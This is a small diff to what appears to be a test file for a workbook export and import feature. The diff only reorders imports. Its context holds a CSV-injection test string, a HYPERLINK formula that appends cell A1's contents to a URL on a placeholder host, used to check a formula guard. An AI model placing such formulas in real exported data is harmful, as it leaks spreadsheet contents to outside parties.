@@ -8,8 +8,8 @@ import JSZip from 'jszip';
 import { exportHarvest } from '../../server/src/node/harvest-export';
 import { importWorkbookFile } from '../../server/src/node/harvest-import';
 import { looksLikeFormula } from '../../server/src/workbook/formula-guard';
-import { readExample, service } from './helpers';
 import { temporaryFolder } from '../temporary-folders';
+import { readExample, service } from './helpers';
 
 /** The texts of issue 24: what Excel and LibreOffice would run as formulas (OWASP's CSV injection). */
 const DESCRIPTION = '=HYPERLINK("http://example.invalid/?"&A1,"Click")';
